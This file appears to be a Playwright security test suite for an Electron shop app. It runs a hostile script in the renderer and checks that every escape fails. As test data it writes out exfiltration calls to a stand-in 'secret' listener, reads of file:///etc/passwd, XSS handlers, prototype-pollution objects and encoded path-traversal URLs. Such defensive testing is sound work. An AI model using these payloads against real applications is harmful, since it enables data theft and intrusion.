/**
 * A hostile page in the real window: a script in the page's own world tries what it can. It gets out of nothing, learns
 * nothing, moves nothing, and the window and the backend stay alive.
 */
import { rmSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page, test } from '@playwright/test'
import sqlite3 from 'sqlite3'
import type { OperationDeclaration } from '../../src/contract/operation'
import { operations } from '../../src/contract/operations'
import { repoRoot } from '../support/devices/hubProcess'
import { Listener } from '../support/devices/listener'
import { ask } from '../support/devices/person'
import { pause, until } from '../support/devices/waiting'
import { closed, manager, Shop } from './shop'

let shop: Shop
let outside: Listener

test.beforeAll(async () => {
  outside = await Listener.open()
  shop = await Shop.open()
})
test.afterAll(async () => {
  outside?.close()
  await closed(shop)
})

const ledgerTables = [
  'event',
  'stockMovement',
  'stockBalance',
  'document',
  'documentLine',
  'draftStep',
  'labelJob',
  'scan',
]

/** What no try may change, read past the app. */
const ledger = async (): Promise<string> => {
  const database = new sqlite3.Database(shop.app.databaseFile, sqlite3.OPEN_READONLY)
  const rows = (sql: string): Promise<unknown[]> =>
    new Promise((done, fail) => database.all(sql, (error, found) => (error ? fail(error) : done(found))))
  try {
    return JSON.stringify(await Promise.all(ledgerTables.map((table) => rows(`SELECT * FROM ${table} ORDER BY 1, 2`))))
  } finally {
    await new Promise<void>((done) => database.close(() => done()))
  }
}

let before = ''
test.beforeEach(async () => {
  before = await ledger()
})
/** The window is where it was, both processes answer, and nothing moved. */
test.afterEach(async () => {
  expect(shop.page.url()).toMatch(/^app:\/\/store\//)
  expect(await shop.app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
  expect((await ask(shop.page, 'app.status', {})).enrolled).toBe(true)
  expect(await ledger()).toBe(before)
  expect(outside.heard).toEqual([])
})

const signedIn = async (): Promise<void> => {
  if ((await shop.page.locator('[data-testid=user-name]:visible').count()) === 0) await shop.signIn(manager)
}

/** Runs named tries in the page; the names of those that got through. Outside of the driver's own call, which no policy binds. */
const gotThrough = (page: Page, tries: string, port = outside.port): Promise<string[]> =>
  page.evaluate(
    ([source, at]) =>
      new Promise<string[]>((answer) => {
        const http = `http://127.0.0.1:${at}/secret`
        const late = (ms: number) => new Promise((done) => setTimeout(() => done('late'), ms))
        const all = tryTable(source as string)
        setTimeout(async () => {
          const through: string[] = []
          for (const [name, run] of Object.entries(all)) {
            try {
              const got = await Promise.race([run(http, at as number), late(2_000)])
              if (got !== 'late' && got !== false && got !== null && got !== undefined)
                through.push(`${name}: ${String(got)}`)
            } catch {}
          }
          answer(through)
        }, 0)
        function tryTable(text: string): Record<string, (url: string, at: number) => unknown> {
          return (window as never as { hostile: Record<string, Record<string, never>> }).hostile[text] as never
        }
      }),
    [tries, port] as const,
  )

/** Tables of tries stand in the page, as a script that got in would bring them. */
const bring = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const loads = (tag: string, attributes: Record<string, string>): Promise<boolean> =>
      new Promise((done) => {
        const element = document.createElement(tag)
        element.onload = () => done(true)
        element.onerror = () => done(false)
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
        document.head.append(element)
      })
    const inFrame = async (attributes: Record<string, string>): Promise<unknown> => {
      const frame = document.createElement('iframe')
      for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value)
      document.body.append(frame)
      await new Promise((done) => setTimeout(done, 500))
      const reached = (window as never as { fromFrame?: unknown }).fromFrame
      const inner = frame.contentWindow as (Window & { zhanggui?: unknown }) | null
      let own: unknown = null
      try {
        own = inner?.zhanggui ?? null
      } catch {}
      frame.remove()
      return reached ?? own
    }
    const runs = (work: () => void, mark: string): Promise<unknown> => {
      work()
      return new Promise((done) =>
        setTimeout(() => done((window as never as Record<string, unknown>)[mark] ?? null), 300),
      )
    }
    const granted = (name: string) => async () =>
      (await navigator.permissions.query({ name: name as never })).state === 'granted' ? name : null
    const bare = navigator as never as Record<
      string,
      { requestDevice?(filter: unknown): unknown; requestPort?(): unknown }
    >
    const some = async (found: unknown): Promise<unknown> => {
      const got = await found
      return Array.isArray(got) && got.length === 0 ? null : got
    }
    const out = {
      fetch: (url: string) => fetch(url),
      'fetch, no cors': (url: string) => fetch(url, { mode: 'no-cors' }),
      'fetch, keepalive': (url: string) => fetch(url, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
      'fetch a file': () => fetch('file:///etc/passwd').then((answer) => answer.text()),
      xhr: (url: string) =>
        new Promise((done) => {
          const request = new XMLHttpRequest()
          request.onload = () => done(request.status)
          request.onerror = () => done(null)
          request.open('GET', url)
          request.send()
        }),
      'web socket': (url: string) =>
        new Promise((done) => {
          const socket = new WebSocket(url.replace('http', 'ws'))
          socket.onopen = () => done('open')
          socket.onerror = () => done(null)
        }),
      'event source': (url: string) =>
        new Promise((done) => {
          const source = new EventSource(url)
          source.onopen = () => done('open')
          source.onerror = () => done(null)
        }),
      // says true when queued; whether anything came is what the listener says
      beacon: (url: string) => void navigator.sendBeacon(url, 'x'),
      image: (url: string) => loads('img', { src: url }),
      style: (url: string) => loads('link', { rel: 'stylesheet', href: url }),
      prefetch: (url: string) => loads('link', { rel: 'prefetch', href: url }),
      preconnect: (url: string) => void loads('link', { rel: 'preconnect', href: url }),
      'dns-prefetch': () => void loads('link', { rel: 'dns-prefetch', href: '//secret.invalid' }),
      preload: (url: string) => loads('link', { rel: 'preload', as: 'script', href: url }),
      modulepreload: (url: string) => loads('link', { rel: 'modulepreload', href: url }),
      manifest: (url: string) => loads('link', { rel: 'manifest', href: url }),
      font: (url: string) => new FontFace('hostile', `url(${url})`).load(),
      audio: (url: string) =>
        new Promise((done) => {
          const audio = new Audio(url)
          audio.oncanplay = () => done('plays')
          audio.onerror = () => done(null)
        }),
      object: (url: string) => loads('object', { data: url }),
      embed: (url: string) => loads('embed', { src: url }),
      'css url': (url: string) => {
        document.body.style.backgroundImage = `url(${url})`
        getComputedStyle(document.body).backgroundImage
        document.body.style.backgroundImage = ''
      },
      ping: (url: string) => {
        const link = document.createElement('a')
        link.href = '#x'
        link.ping = url
        link.click()
        window.location.hash = ''
      },
      'web rtc': async (_url: string, at: number) => {
        const peer = new RTCPeerConnection({
          iceServers: [
            { urls: `stun:127.0.0.1:${at}` },
            { urls: `turn:127.0.0.1:${at}?transport=udp`, username: 'a', credential: 'b' },
            { urls: `turn:127.0.0.1:${at}?transport=tcp`, username: 'a', credential: 'b' },
          ],
        })
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
        await new Promise((done) => setTimeout(done, 1_500))
        peer.close()
      },
      'web transport': async (url: string) => {
        const { WebTransport } = window as never as { WebTransport: new (at: string) => { ready: Promise<void> } }
        await new WebTransport(url.replace('http', 'https')).ready
        return 'open'
      },
    }
    const code = {
      eval: () => Reflect.get(window, 'eval')('1 + 1'),
      'new Function': () => new Function('return 2')(),
      'a text as a timer': () => runs(() => void setTimeout('window.timerRan = true' as never, 0), 'timerRan'),
      'inline script': () =>
        runs(() => {
          const script = document.createElement('script')
          script.textContent = 'window.inlineRan = true'
          document.head.append(script)
        }, 'inlineRan'),
      'inline handler': () =>
        runs(() => {
          const box = document.createElement('div')
          box.innerHTML = '<img src="x:" onerror="window.handlerRan = true"><svg onload="window.handlerRan = true">'
          document.body.append(box)
        }, 'handlerRan'),
      'data: script': () => loads('script', { src: 'data:text/javascript,window.dataRan=1' }),
      'blob: script': () => loads('script', { src: URL.createObjectURL(new Blob(['window.blobRan = true'])) }),
      'remote script': (url: string) => loads('script', { src: url }),
      'remote module': (url: string) => import(/* @vite-ignore */ url),
      'data: module': () => import(/* @vite-ignore */ ['data:text/javascript', 'export default 1'].join(',')),
      wasm: () => WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
      worker: () => runsWorker(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))),
      'own worker': () => runsWorker(() => new Worker('/index.html')),
      'shared worker': () => new SharedWorker('/index.html').port.start(),
      'service worker': () => navigator.serviceWorker.register('/index.html'),
      'javascript: link': () =>
        runs(() => {
          const link = document.createElement('a')
          link.href = 'javascript:void(window.linkRan = true)'
          link.click()
        }, 'linkRan'),
    }
    const runsWorker = (make: () => Worker): Promise<unknown> =>
      new Promise((done) => {
        const worker = make()
        worker.onmessage = () => done('ran')
        worker.onerror = () => done(null)
      })
    const frames = {
      srcdoc: () => inFrame({ srcdoc: '<script>parent.fromFrame = 1</script>' }),
      'srcdoc, handler': () => inFrame({ srcdoc: '<img src=x: onerror="parent.fromFrame = 1">' }),
      'data:': () => inFrame({ src: 'data:text/html,<script>parent.fromFrame = 1</script>' }),
      'javascript:': () => inFrame({ src: 'javascript:parent.fromFrame = 1' }),
      blank: () => inFrame({}),
      'own page': () => inFrame({ src: 'app://store/index.html' }),
      'own page of another host': () => inFrame({ src: 'app://elsewhere/index.html' }),
      'a page outside': (url: string) => inFrame({ src: url }),
      'a file': () => inFrame({ src: 'file:///etc/passwd' }),
      webview: async () => {
        const view = document.createElement('webview')
        view.setAttribute('src', 'app://store/index.html')
        document.body.append(view)
        await new Promise((done) => setTimeout(done, 300))
        const works = 'getWebContentsId' in view
        view.remove()
        return works
      },
    }
    const permissions = {
      ...Object.fromEntries(
        ['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read', 'midi', 'persistent-storage'].map(
          (name) => [`query ${name}`, granted(name)],
        ),
      ),
      camera: () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      notifications: async () => (await Notification.requestPermission()) === 'granted',
      'read the clipboard': () => navigator.clipboard.readText(),
      place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
      serial: () => bare.serial?.requestPort?.(),
      usb: () => bare.usb?.requestDevice?.({ filters: [] }),
      hid: () => some(bare.hid?.requestDevice?.({ filters: [] })),
      bluetooth: () => bare.bluetooth?.requestDevice?.({ acceptAllDevices: true }),
      midi: () => navigator.requestMIDIAccess({ sysex: true }),
      idle: async () => {
        const { IdleDetector } = window as never as { IdleDetector: { requestPermission(): Promise<string> } }
        return (await IdleDetector.requestPermission()) === 'granted'
      },
      'a folder': () => (window as never as { showDirectoryPicker?: unknown }).showDirectoryPicker,
      'a file': () => (window as never as { showOpenFilePicker?: unknown }).showOpenFilePicker,
      'local fonts': async () =>
        some((window as never as { queryLocalFonts?(): Promise<unknown[]> }).queryLocalFonts?.()),
    }
    Object.assign(window, { hostile: { out, code, frames, permissions } })
  })

test('nothing of the window reaches anything outside', async () => {
  await bring(shop.page)
  expect(await gotThrough(shop.page, 'out')).toEqual([])
  await pause(500)
  expect(outside.heard).toEqual([])
})

test('no code runs that did not come with the app', async () => {
  await bring(shop.page)
  expect(await gotThrough(shop.page, 'code')).toEqual([])
  expect(await shop.page.evaluate(() => ['dataRan', 'blobRan'].filter((mark) => mark in window))).toEqual([])
})

test('no frame and no webview runs anything or has a bridge of its own', async () => {
  await bring(shop.page)
  expect(await gotThrough(shop.page, 'frames')).toEqual([])
})

test('no permission, device, file or folder is given, and nobody is asked for one', async () => {
  await bring(shop.page)
  expect(await gotThrough(shop.page, 'permissions')).toEqual([])
})

/** One call of the bridge, whatever comes of it. The input is made in the page, so that it may be anything. */
const codeOfCall = (page: Page, name: string, input: unknown, requestId?: string): Promise<string> =>
  page.evaluate(
    async ([called, given, id]) => {
      const answer = (await window.zhanggui?.invoke(
        called as string,
        given,
        (id as string) ?? crypto.randomUUID(),
      )) as {
        ok: boolean
        error?: { code: string }
      }
      return answer.ok ? 'OK' : (answer.error?.code ?? 'none')
    },
    [name, input, requestId] as const,
  )

test('without a session every operation is refused but the public ones, and those of HQ are unknown here', async () => {
  await signedIn()
  await shop.page.evaluate(() => window.zhanggui?.invoke('signIn.out', {}, crypto.randomUUID()))
  await shop.page.waitForSelector('[data-testid=sign-in][data-locked=false]')
  const table = Object.entries(operations) as [string, OperationDeclaration][]
  const codes = new Map<string, string>()
  for (const [name] of table) codes.set(name, await codeOfCall(shop.page, name, {}))
  for (const [name, { runsOn, permission }] of table) {
    if (runsOn === 'hub') expect([name, codes.get(name)]).toEqual([name, 'UNKNOWN_OPERATION'])
    else if (permission !== 'public') expect([name, codes.get(name)]).toEqual([name, 'UNAUTHENTICATED'])
    else expect([name, codes.get(name)]).not.toEqual([name, 'INTERNAL'])
  }
  for (const name of ['no.such', '__proto__', 'constructor', 'toString', 'app.status\n', 'hasOwnProperty'])
    expect([name, await codeOfCall(shop.page, name, {})]).toEqual([name, 'UNKNOWN_OPERATION'])
})

test('what is handed to the bridge is plain, small JSON or refused; prototypes stay what they are', async () => {
  await signedIn()
  const codes = await shop.page.evaluate(async () => {
    const cyclic: Record<string, unknown> = {}
    cyclic.self = cyclic
    let deep: unknown = 1
    for (let depth = 0; depth < 5_000; depth++) deep = { deep }
    const inputs: Record<string, () => unknown> = {
      cycle: () => cyclic,
      depth: () => deep,
      'not a number': () => ({ onlyMoved: Number.NaN }),
      'a big integer': () => ({ search: 10n }),
      symbol: () => ({ search: Symbol('x') }),
      function: () => ({ search: () => 'x' }),
      date: () => ({ search: new Date() }),
      map: () => ({ search: new Map([['a', 1]]) }),
      bytes: () => new Uint8Array(100),
      'a megabyte and more': () => ({ search: 'x'.repeat(2_000_000) }),
      'eighty megabytes': () => ({ search: 'x'.repeat(80_000_000) }),
      'a million values': () => Array.from({ length: 1_000_000 }, () => 1),
      'a getter that throws': () =>
        Object.defineProperty({}, 'search', {
          enumerable: true,
          get: () => {
            throw new Error('no')
          },
        }),
      'a proxy that lies': () =>
        new Proxy(
          {},
          {
            ownKeys: () => ['search'],
            getOwnPropertyDescriptor: () => ({ configurable: true, enumerable: true }),
            get: () => 5,
          },
        ),
      'an own __proto__': () =>
        JSON.parse('{"__proto__": {"search": 7, "polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}'),
      element: () => document.body,
      window: () => window,
      promise: () => Promise.resolve(1),
      'an unknown key': () => ({ clientId: 'window:99', search: '' }),
    }
    const found: Record<string, string> = {}
    for (const [name, make] of Object.entries(inputs)) {
      try {
        const answer = (await window.zhanggui?.invoke('stock.list', make(), crypto.randomUUID())) as {
          ok: boolean
          error?: { code: string }
        }
        found[name] = answer.ok ? 'OK' : (answer.error?.code ?? 'none')
      } catch {
        found[name] = 'thrown'
      }
    }
    return found
  })
  for (const [name, code] of Object.entries(codes))
    expect([name, code]).toEqual([name, expect.stringMatching(/^(INVALID_INPUT|thrown)$/)])
  expect(await shop.page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(await shop.app.electron.evaluate(() => 'polluted' in {})).toBe(false)
})

test('getters and prototypes of the page do not reach the shell', async () => {
  await signedIn()
  const said = await shop.page.evaluate(async () => {
    const prototype = Object.prototype as Record<string, unknown>
    prototype.requestId = '00000000-0000-4000-8000-000000000000'
    prototype.clientId = 'window:99'
    prototype.name = 'signIn.out'
    const { toJSON } = prototype
    prototype.toJSON = () => ({ name: 'signIn.out' })
    try {
      return await window.zhanggui?.invoke('signIn.current', {}, crypto.randomUUID())
    } finally {
      for (const key of ['requestId', 'clientId', 'name']) delete prototype[key]
      if (toJSON === undefined) delete prototype.toJSON
    }
  })
  expect(said).toMatchObject({ ok: true, value: { session: { userId: manager } } })
})

test('a request id stands for one request: the same with another input is refused', async () => {
  await signedIn()
  const settings = await ask(shop.page, 'device.settings', {})
  const requestId = crypto.randomUUID()
  expect(await codeOfCall(shop.page, 'device.saveSettings', settings, requestId)).toBe('OK')
  expect(await codeOfCall(shop.page, 'device.saveSettings', settings, requestId)).toBe('OK')
  const other = { scanners: [], printers: [] }
  expect(await codeOfCall(shop.page, 'device.saveSettings', other, requestId)).toBe('INVALID_INPUT')
  expect(await ask(shop.page, 'device.settings', {})).toEqual(settings)
  for (const bad of ['', 'one', `${requestId}\n`, 'x'.repeat(1_000_000)])
    expect(await codeOfCall(shop.page, 'app.status', {}, bad)).toBe('INVALID_INPUT')
})

test('ten thousand calls at once are all answered, many with "busy", and then it is quiet again', async () => {
  test.setTimeout(240_000)
  const codes = await shop.page.evaluate(async () => {
    const calls = Array.from({ length: 10_000 }, () => window.zhanggui?.invoke('app.status', {}, crypto.randomUUID()))
    const answers = (await Promise.all(calls)) as { ok: boolean; error?: { code: string } }[]
    const count: Record<string, number> = {}
    for (const { ok, error } of answers) {
      const code = ok ? 'OK' : (error?.code ?? 'none')
      count[code] = (count[code] ?? 0) + 1
    }
    return count
  })
  expect(Object.keys(codes).sort()).toEqual(['BUSY', 'OK'])
  expect((codes.BUSY ?? 0) + (codes.OK ?? 0)).toBe(10_000)
  expect(await codeOfCall(shop.page, 'app.status', {})).toBe('OK')
})

test('the bridge cannot be bent, and listeners of all kinds harm nobody', async () => {
  const found = await shop.page.evaluate(async () => {
    const bridge = window.zhanggui as unknown as Record<string, unknown>
    const { invoke } = bridge
    const tried: Record<string, boolean> = {}
    const attempt = (name: string, work: () => void): void => {
      try {
        work()
        tried[name] = true
      } catch {
        tried[name] = false
      }
    }
    attempt('put another in its place', () => Object.assign(window, { zhanggui: {} }))
    attempt('delete it', () => void delete (window as { zhanggui?: unknown }).zhanggui)
    attempt('define it anew', () => void Object.defineProperty(window, 'zhanggui', { value: {} }))
    attempt('change its function', () => void Object.assign(bridge, { invoke: () => 'mine' }))
    attempt('add to it', () => void Object.assign(bridge, { more: 1 }))
    const same = (window.zhanggui as unknown) === bridge && bridge.invoke === invoke && !('more' in bridge)
    const subscribe = bridge.subscribe as (listener: unknown) => () => void
    const refused = ['text', null, {}, 5].filter((bad) => {
      try {
        subscribe(bad)
        return false
      } catch {
        return true
      }
    })
    const ends = Array.from({ length: 5_000 }, () => subscribe(() => undefined))
    for (const end of ends) end()
    for (const end of ends) end()
    return { same, refused: refused.length, keys: Object.keys(bridge).sort() }
  })
  expect(found).toEqual({ same: true, refused: 4, keys: ['invoke', 'subscribe'] })
  // the real screen still hears of things
  await signedIn()
})

test('no secret lies in the page: no PIN, token or key in its stores or its text', async () => {
  await signedIn()
  const pin = shop.hub.login(manager).pin as string
  const kept = await shop.page.evaluate(async () => {
    const stores = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie]
    const databases = (await indexedDB.databases()).map(({ name }) => name)
    const values = [...document.querySelectorAll('input')].map(({ value }) => value)
    return { text: [...stores, ...values].join('\n'), databases, html: document.documentElement.outerHTML }
  })
  expect(kept.databases).toEqual([])
  expect(kept.text).not.toContain(pin)
  for (const text of [kept.text, kept.html]) {
    expect(text).not.toContain('PRIVATE KEY')
    expect(text).not.toMatch(/argon2/)
    // a token is 43 letters; nothing the page keeps is as long
  }
  expect(kept.text).not.toMatch(/[A-Za-z0-9_-]{43}/)
  const status = JSON.stringify(await ask(shop.page, 'app.status', {}))
  expect(status).not.toMatch(/[A-Za-z0-9_-]{43}|PRIVATE/)
})

test('no file but the pages is served, by whatever address, and none over a link', async () => {
  const link = join(repoRoot, 'out', 'renderer', 'hostile.txt')
  rmSync(link, { force: true })
  symlinkSync('/etc/hostname', link)
  try {
    const answers = await shop.page.evaluate(() => {
      const paths = [
        ...[
          '/hostile.txt',
          '/../main/index.js',
          '/..%2fmain%2findex.js',
          '/%2e%2e/main/index.js',
          '/..%252fmain/index.js',
        ],
        ...['/..%5cmain%5cindex.js', '//etc/passwd.txt', '/%00.html.js', '/assets/../../main/index.js'],
        ...['/file:///etc/passwd.txt', '/etc/passwd.txt', '/../store.db', '/%c0%ae%c0%ae/main/index.js'],
      ]
      const urls = [
        ...paths.map((path) => `app://store${path}`),
        'app://elsewhere/index.html',
        'app://store@evil/index.html',
      ]
      return Promise.all(
        urls.map((url) =>
          fetch(url).then(
            async (answer) => [url, answer.ok ? (await answer.text()).slice(0, 40) : 'refused'],
            () => [url, 'refused'],
          ),
        ),
      )
    })
    for (const answer of answers) expect(answer).toEqual([answer[0], 'refused'])
    const post = await shop.page.evaluate(() => fetch('/index.html', { method: 'POST' }).then(({ status }) => status))
    expect(post).toBe(403)
  } finally {
    rmSync(link, { force: true })
  }
})

test('a window that came to be in any other way is confined too, and its calls are refused', async () => {
  const preload = join(repoRoot, 'out', 'preload', 'index.js')
  const found = await shop.app.electron.evaluate(async ({ BrowserWindow }, preloadFile) => {
    const window = new BrowserWindow({
      show: false,
      webPreferences: { preload: preloadFile, sandbox: false, nodeIntegration: true, contextIsolation: true },
    })
    const page = window.webContents
    try {
      await window.loadURL('app://store/index.html')
      const run = (script: string): Promise<unknown> => page.executeJavaScript(script)
      const node = await run('typeof require + typeof process')
      const call = await run(
        `window.zhanggui ? window.zhanggui.invoke('app.status', {}, crypto.randomUUID()).then(() => 'answered', () => 'refused') : 'no bridge'`,
      )
      const opened = await run(`String(window.open('app://store/index.html'))`)
      await run(`location.assign('https://example.com/')`)
      await new Promise((done) => setTimeout(done, 300))
      return { node, call, opened, url: page.getURL() }
    } finally {
      window.destroy()
    }
  }, preload)
  expect(found).toEqual({
    node: 'undefinedundefined',
    call: expect.stringMatching(/^(refused|no bridge)$/),
    opened: 'null',
    url: expect.stringMatching(/^app:\/\/store\//),
  })
})

test('a page that is gone and comes back may ask again; what it asked before harms nothing', async () => {
  await signedIn()
  await shop.page.evaluate(() => {
    for (let call = 0; call < 200; call++) void window.zhanggui?.invoke('app.status', {}, crypto.randomUUID())
  })
  await until('a live backend', async () => (await codeOfCall(shop.page, 'app.status', {})) === 'OK')
})

test('a page that leaves for about:blank has no voice there, and is brought back', async () => {
  const said = await shop.app.electron.evaluate(async ({ BrowserWindow }) => {
    const page = BrowserWindow.getAllWindows()[0]?.webContents
    const left = new Promise((done) => page?.once('did-navigate', (_event, url) => done(url)))
    void page?.executeJavaScript(`location.assign('about:blank')`).catch(() => undefined)
    return left
  })
  expect(said).toBe('about:blank')
  await until('the page again', async () => shop.page.url().startsWith('app://store/'))
  await shop.page.waitForSelector('[data-screen]')
})

// Last: the driver takes a refused navigation for one that is still under way, and waits for it ever after.
test('the page cannot be led anywhere, open anything, send a form or fetch a file to disk', async () => {
  const here = shop.page.url()
  const started = await shop.page.evaluate(async (port) => {
    const http = `http://127.0.0.1:${port}/secret`
    const wait = (ms: number) => new Promise((done) => setTimeout(done, ms))
    const link = (attributes: Record<string, string>): void => {
      const anchor = document.createElement('a')
      for (const [name, value] of Object.entries(attributes)) anchor.setAttribute(name, value)
      document.body.append(anchor)
      anchor.click()
      anchor.remove()
    }
    const form = (attributes: Record<string, string>): void => {
      const element = document.createElement('form')
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.body.append(element)
      element.submit()
      element.remove()
    }
    const opened: string[] = []
    for (const url of [http, 'app://store/index.html', 'about:blank', 'file:///etc/passwd', 'javascript:1'])
      if (window.open(url) !== null) opened.push(url)
    link({ href: http, target: '_blank' })
    link({ href: http, download: 'x.txt' })
    link({ href: 'data:text/plain,x', download: 'x.txt' })
    link({ href: 'app://store/index.html', download: 'x.html' })
    form({ action: http, method: 'post' })
    form({ action: http, target: '_blank' })
    const refresh = document.createElement('meta')
    refresh.httpEquiv = 'refresh'
    refresh.content = `0;url=${http}`
    document.head.append(refresh)
    await wait(300)
    refresh.remove()
    for (const url of [
      http,
      'file:///etc/passwd',
      'data:text/html,x',
      'javascript:document.title="x"',
      'app://elsewhere/',
      'mailto:a@b',
    ]) {
      try {
        window.location.assign(url)
      } catch {}
      await wait(100)
    }
    return { opened, title: document.title }
  }, outside.port)
  await pause(300)
  expect(started.opened).toEqual([])
  expect(started.title).not.toBe('x')
  expect(shop.page.url()).toBe(here)
})
